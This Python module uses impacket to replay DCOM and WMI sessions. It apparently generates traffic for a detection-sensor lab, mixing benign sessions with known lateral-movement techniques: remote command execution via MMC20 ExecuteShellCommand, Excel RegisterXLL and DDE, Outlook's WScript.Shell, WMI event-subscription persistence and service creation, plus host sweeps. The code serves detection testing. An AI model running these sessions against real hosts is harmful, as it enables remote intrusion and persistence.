"""Short sequences of impacket library calls, for what impacket's scripts do not do."""

import argparse
import contextlib
import time
from pathlib import Path

from impacket.dcerpc.v5 import dcomrt, epm, rrp, transport
from impacket.dcerpc.v5.dcom import oaut, wmi
from impacket.dcerpc.v5.dtypes import NULL
from impacket.uuid import string_to_bin, uuidtup_to_bin

import type_info
from dcom_server.world import (
    ABSENT,
    EXCEL,
    FILE_SYSTEM_IMAGE,
    HTAFILE,
    LAB_INVENTORY,
    MMC20,
    OUTLOOK,
    SHELL_WINDOWS,
    STDFONT,
    SVCCTL,
    TYPES,
    WBEM_LOGIN,
    WORDPAD,
)
from scenarios import CLIENT, CLIENT_OXID

LOCALE = 0x409
UNKNOWN_OXID = 0x1234
DISPID_PROPERTYPUT = -3
# Longer than a sensor waits for a call on an object.
IDLE_SECONDS = 32
WMI_STUBS = Path(__file__).resolve().parents[2] / "parsers/corpus/wmi"


def connect(options):
    """A DCOM connection to the target."""
    return dcomrt.DCOMConnection(
        options.target, options.user, options.password, options.domain, oxidResolver=False
    )


def create(dcom, clsid):
    """An object of the class, as IDispatch."""
    return oaut.IDispatch(dcom.CoCreateInstanceEx(string_to_bin(clsid), oaut.IID_IDispatch))


def arguments(*values, named=()):
    """DISPPARAMS of strings and numbers, in reverse order as they travel; the last have these numbers."""
    params = oaut.DISPPARAMS(None, False)
    params["rgdispidNamedArgs"] = list(named) or NULL
    params["cArgs"], params["cNamedArgs"] = len(values), len(named)
    if not values:
        params["rgvarg"] = NULL
    for value in reversed(values):
        kind = oaut.VARENUM.VT_BSTR if isinstance(value, str) else oaut.VARENUM.VT_I4
        variant = oaut.VARIANT(None, False)
        variant["clSize"], variant["vt"] = 5, kind
        variant["_varUnion"]["tag"] = kind
        if isinstance(value, str):
            variant["_varUnion"]["bstrVal"]["asData"] = value
        else:
            variant["_varUnion"]["lVal"] = value
        params["rgvarg"].append(variant)
    return params


def method(obj, name, *values):
    """Call a method by name."""
    dispid = obj.GetIDsOfNames((name,))[0]
    return obj.Invoke(dispid, LOCALE, oaut.DISPATCH_METHOD, arguments(*values), 0, [], [])


def put(obj, name, value):
    """Set a property."""
    dispid = obj.GetIDsOfNames((name,))[0]
    params, named = arguments(value), oaut.DISPID()
    named["Data"] = DISPID_PROPERTYPUT
    params["cNamedArgs"] = 1
    params["rgdispidNamedArgs"] = [named]
    return obj.Invoke(dispid, LOCALE, oaut.DISPATCH_PROPERTYPUT, params, 0, [], [])


def get(parent, name):
    """The object that a property holds."""
    dispid = parent.GetIDsOfNames((name,))[0]
    answer = parent.Invoke(dispid, LOCALE, oaut.DISPATCH_PROPERTYGET, arguments(), 0, [], [])
    return held(parent, answer)


def held(parent, answer):
    """The object that an answer of Invoke brings."""
    raw = b"".join(answer["pVarResult"]["_varUnion"]["pdispVal"]["abData"])
    instance, ipid = parent.get_cinstance(), parent.get_ipidRemUnknown()
    return oaut.IDispatch(dcomrt.INTERFACE(instance, raw, ipid, target=parent.get_target()))


def mmc20(dcom, options):
    """MMC20 with reference counting: RemAddRef, RemQueryInterface, RemRelease."""
    app = create(dcom, MMC20)
    app.RemAddRef()
    app.RemQueryInterface(1, (oaut.IID_IDispatch,))
    view = get(get(app, "Document"), "ActiveView")
    program, _, parameters = options.command.partition(" ")
    method(view, "ExecuteShellCommand", program, "C:\\windows\\system32", parameters, "7")
    method(app, "Quit")
    view.RemRelease()
    app.RemRelease()


def by_number(parent, dispid, *values):
    """What a member gives or does, by a number out of a type library."""
    kind = oaut.DISPATCH_METHOD if values else oaut.DISPATCH_PROPERTYGET
    return parent.Invoke(dispid, LOCALE, kind, arguments(*values), 0, [], [])


def mmc20_snap_in(dcom, _options):
    """A snap-in added to a console, by numbers alone."""
    app = create(dcom, MMC20)
    document = held(app, by_number(app, TYPES["MMC20.Application"]["Document"].dispid))
    snap_ins = held(document, by_number(document, TYPES["MMC20.Document"]["SnapIns"].dispid))
    by_number(snap_ins, TYPES["MMC20.SnapIns"]["Add"].dispid, "Event Viewer")


def mmc20_named(dcom, options):
    """ExecuteShellCommand with arguments by name, in an order of their own, and one left out."""
    view = get(get(create(dcom, MMC20), "Document"), "ActiveView")
    program, _, parameters = options.command.partition(" ")
    names = ("ExecuteShellCommand", "WindowState", "Parameters", "Command")
    dispid, *numbers = view.GetIDsOfNames(names)
    params = arguments(program, parameters, "7", named=numbers)
    view.Invoke(dispid, LOCALE, oaut.DISPATCH_METHOD, params, 0, [], [])


def excel_again(dcom, options):
    """RegisterXLL twice, of two objects; its number is asked for once."""
    dispid = create(dcom, EXCEL).GetIDsOfNames(("RegisterXLL",))[0]
    by_number(create(dcom, EXCEL), dispid, options.command)


def excel_by_number(dcom, options):
    """RegisterXLL by the number that Excel's type library gives it, and nothing asked."""
    by_number(create(dcom, EXCEL), TYPES["Excel.Application"]["RegisterXLL"].dispid, options.command)


def excel_dde(dcom, options):
    """Excel's DDEInitiate."""
    app = create(dcom, EXCEL)
    program, _, parameters = options.command.partition(" ")
    method(app, "DDEInitiate", program, parameters)
    method(app, "Quit")


def excel_xll(dcom, options):
    """Excel's RegisterXLL."""
    method(create(dcom, EXCEL), "RegisterXLL", options.command)


def excel_macro4(dcom, options):
    """Excel's ExecuteExcel4Macro."""
    method(create(dcom, EXCEL), "ExecuteExcel4Macro", options.command)


def excel_foxpro(dcom, _options):
    """Excel's ActivateMicrosoftApp, for a program that is no longer sold (xlMicrosoftFoxPro)."""
    method(create(dcom, EXCEL), "ActivateMicrosoftApp", 5)


def outlook_run(dcom, options):
    """An object that Outlook makes inside the target, and its Run."""
    app = create(dcom, OUTLOOK)
    shell = held(app, method(app, "CreateObject", "WScript.Shell"))
    method(shell, "Run", options.command)


def file_system_image(dcom, options):
    """A file system image that shall be made of a folder, wherever that is."""
    put(create(dcom, FILE_SYSTEM_IMAGE), "workingdirectory", options.command)


def trapped(dcom, _options):
    """An object, its type information, and an object made out of that."""
    font = create(dcom, STDFONT)
    information = font.GetTypeInfo()
    request = type_info.CreateInstance()
    request["riid"] = oaut.IID_IDispatch
    information.request(request, iid=oaut.IID_ITypeInfo, uuid=information.get_iPid())


def trapped_2(dcom, _options):
    """The same by the type information's second interface, which begins with the operations of the first."""
    information = create(dcom, STDFONT).GetTypeInfo()
    second = information.RemQueryInterface(1, (type_info.IID_ITypeInfo2,))
    request = type_info.CreateInstance()
    request["riid"] = oaut.IID_IDispatch
    second.request(request, iid=type_info.IID_ITypeInfo2, uuid=second.get_iPid())


def type_information(dcom, _options):
    """An object and its type information, as scripts ask for it."""
    font = create(dcom, STDFONT)
    font.GetTypeInfoCount()
    font.GetTypeInfo()


def trigger(dcom, _options):
    """An object that is released, and a while in which nothing is called."""
    create(dcom, WORDPAD).RemRelease()
    time.sleep(IDLE_SECONDS)


def trigger_and_call(dcom, _options):
    """The same class, but used."""
    app = create(dcom, WORDPAD)
    get_text(app, "Title")
    app.RemRelease()
    time.sleep(IDLE_SECONDS)


def get_text(obj, name):
    """Read a property that is no object."""
    dispid = obj.GetIDsOfNames((name,))[0]
    obj.Invoke(dispid, LOCALE, oaut.DISPATCH_PROPERTYGET, arguments(), 0, [], [])


def reverse(dcom, _options):
    """A class that calls back, and the target's part played from its address: see `generate`."""
    create(dcom, HTAFILE)
    call_back()


def callback(dcom, _options):
    """The same with a class nobody abuses."""
    create(dcom, LAB_INVENTORY)
    call_back()


def call_back():
    """What a COM server does that was given an object of its client's."""
    exporter = resolver(CLIENT)
    exporter.ServerAlive2()
    exporter.ResolveOxid2(CLIENT_OXID, (7,))


def activate_wordpad(dcom, _options):
    """Activation of WordPad's class, where that is asked for in an odd way."""
    create(dcom, WORDPAD).RemRelease()


def class_scan(dcom, _options):
    """Several classes on one target, whether they exist or not."""
    for clsid in ABSENT:
        with contextlib.suppress(dcomrt.DCERPCSessionError):
            create(dcom, clsid)


def registry(dcom, options):
    """An activation, then the registry."""
    create(dcom, MMC20)
    open_registry(options)


def inventory(dcom, options):
    """What inventories do: WMI, then the registry."""
    dcom.CoCreateInstanceEx(string_to_bin(WBEM_LOGIN), wmi.IID_IWbemLevel1Login)
    open_registry(options)


def open_registry(options):
    """Opens a root key over the pipe, and closes it."""
    where = transport.DCERPCTransportFactory(f"ncacn_np:{options.target}[\\pipe\\winreg]")
    where.set_credentials(options.user, options.password, options.domain)
    dce = where.get_dce_rpc()
    dce.connect()
    dce.bind(rrp.MSRPC_UUID_RRP)
    key = rrp.hOpenLocalMachine(dce)["phKey"]
    rrp.hBaseRegCloseKey(dce, key)
    dce.disconnect()


def wmi_subscription(dcom, _options):
    """A filter and a consumer with a command line, written as wmipersist.py does."""
    login = wmi.IWbemLevel1Login(
        dcom.CoCreateInstanceEx(wmi.CLSID_WbemLevel1Login, wmi.IID_IWbemLevel1Login)
    )
    services = login.NTLMLogin("//./root/subscription", NULL, NULL)
    login.RemRelease()
    services.connect(wmi.IID_IWbemServices)
    dce = services.get_dce_rpc()
    for name in ("event-filter", "command-line-consumer"):
        stub = (WMI_STUBS / f"put-instance-{name}-request.bin").read_bytes()
        dce.call(wmi.IWbemServices_PutInstance.opnum, stub, services.get_iPid())
        dce.recv()
    services.RemRelease()


def wmi_service(dcom, _options):
    """A service created: the stub of a process that is, with the names of the other class's."""
    login = wmi.IWbemLevel1Login(
        dcom.CoCreateInstanceEx(wmi.CLSID_WbemLevel1Login, wmi.IID_IWbemLevel1Login)
    )
    services = login.NTLMLogin("//./root/cimv2", NULL, NULL)
    login.RemRelease()
    services.connect(wmi.IID_IWbemServices)
    dce = services.get_dce_rpc()
    stub = (WMI_STUBS / "exec-method-create-request.bin").read_bytes()
    stub = stub.replace("Win32_Process".encode("utf-16le"), "Win32_Service".encode("utf-16le"))
    stub = stub.replace(b"CommandLine\0", b"PathName\0\0\0\0")
    dce.call(wmi.IWbemServices_ExecMethod.opnum, stub, services.get_iPid())
    dce.recv()
    services.RemRelease()


def benign(dcom, _options):
    """A made-up harmless class."""
    app = create(dcom, LAB_INVENTORY)
    for name in ("Name", "Count"):
        dispid = app.GetIDsOfNames((name,))[0]
        app.Invoke(dispid, LOCALE, oaut.DISPATCH_PROPERTYGET, arguments(), 0, [], [])
    method(app, "Item", "first shelf")
    app.RemRelease()


def activate_mmc20(dcom, _options):
    """Activation of MMC20 and nothing after it."""
    create(dcom, MMC20)


def two_activations(dcom, _options):
    """Two activations over one connection to port 135."""
    for clsid in (MMC20, SHELL_WINDOWS):
        create(dcom, clsid).GetTypeInfoCount()


def class_object(dcom, _options):
    """RemoteGetClassObject instead of RemoteCreateInstance."""
    activator = dcomrt.IRemoteSCMActivator(dcom.get_dce_rpc())
    factory = activator.RemoteGetClassObject(string_to_bin(MMC20), dcomrt.IID_IClassFactory[:16])
    factory.RemRelease()


def oxid_resolve(dcom, _options):
    """Activation, then OXID resolution and pings for what came back, then an unknown OXID."""
    app = dcom.CoCreateInstanceEx(string_to_bin(MMC20), oaut.IID_IDispatch)
    exporter = dcomrt.IObjectExporter(dcom.get_dce_rpc())
    exporter.ResolveOxid(app.get_oxid(), (7,))
    exporter.ResolveOxid2(app.get_oxid(), (7,))
    set_id = exporter.ComplexPing(0, 1, [app.get_oid()], [])["pSetId"]
    exporter.SimplePing(set_id)
    with contextlib.suppress(dcomrt.DCERPCSessionError):
        exporter.ResolveOxid2(UNKNOWN_OXID, (7,))


def wmi_login(dcom, _options):
    """The login to WMI, and its release."""
    login = wmi.IWbemLevel1Login(
        dcom.CoCreateInstanceEx(wmi.CLSID_WbemLevel1Login, wmi.IID_IWbemLevel1Login)
    )
    services = login.NTLMLogin("//./root/cimv2", NULL, NULL)
    login.RemRelease()
    services.RemRelease()


def resolver(target):
    """The OXID resolver of a machine, without authentication."""
    binding = f"ncacn_ip_tcp:{target}[135]"
    dce = transport.DCERPCTransportFactory(binding).get_dce_rpc()
    dce.set_auth_level(1)
    return dcomrt.IObjectExporter(dce)


def resolver_sweep(options):
    """ServerAlive2 of several machines."""
    for target in options.target.split(","):
        resolver(target).ServerAlive2()


def spread(options):
    """MMC20 on several machines, one after the other."""
    for target in options.target.split(","):
        dcom = dcomrt.DCOMConnection(
            target, options.user, options.password, options.domain, oxidResolver=False
        )
        create(dcom, MMC20)
        dcom.disconnect()


def server_alive(options):
    """What OXID resolver scanners do: no authentication, each call on its own connection."""
    exporter = resolver(options.target)
    exporter.ServerAlive()
    exporter.ServerAlive2()


def ept_map(options):
    """Asks the endpoint mapper where svcctl is, and binds to it there."""
    svcctl = uuidtup_to_bin((SVCCTL, "2.0"))
    where = epm.hept_map(options.target, svcctl, protocol="ncacn_ip_tcp")
    dce = transport.DCERPCTransportFactory(where).get_dce_rpc()
    dce.connect()
    dce.bind(svcctl)
    dce.disconnect()


ON_THEIR_OWN = {
    session.__name__: session for session in (server_alive, ept_map, resolver_sweep, spread)
}
SESSIONS = {
    session.__name__: session
    for session in (
        mmc20,
        mmc20_snap_in,
        mmc20_named,
        excel_again,
        excel_by_number,
        excel_dde,
        excel_xll,
        excel_macro4,
        excel_foxpro,
        outlook_run,
        file_system_image,
        trapped,
        trapped_2,
        type_information,
        trigger,
        trigger_and_call,
        reverse,
        callback,
        activate_wordpad,
        class_scan,
        registry,
        inventory,
        wmi_subscription,
        wmi_service,
        benign,
        activate_mmc20,
        two_activations,
        class_object,
        oxid_resolve,
        wmi_login,
    )
}


def run(name, argv):
    """Run one session of the tables above."""
    parser = argparse.ArgumentParser()
    parser.add_argument("--target", required=True)
    parser.add_argument("--user", default="")
    parser.add_argument("--password", default="")
    parser.add_argument("--domain", default="")
    parser.add_argument("--command", default="")
    options = parser.parse_args(argv)
    if name in ON_THEIR_OWN:
        ON_THEIR_OWN[name](options)
        return
    dcom = connect(options)
    try:
        SESSIONS[name](dcom, options)
    finally:
        dcom.disconnect()
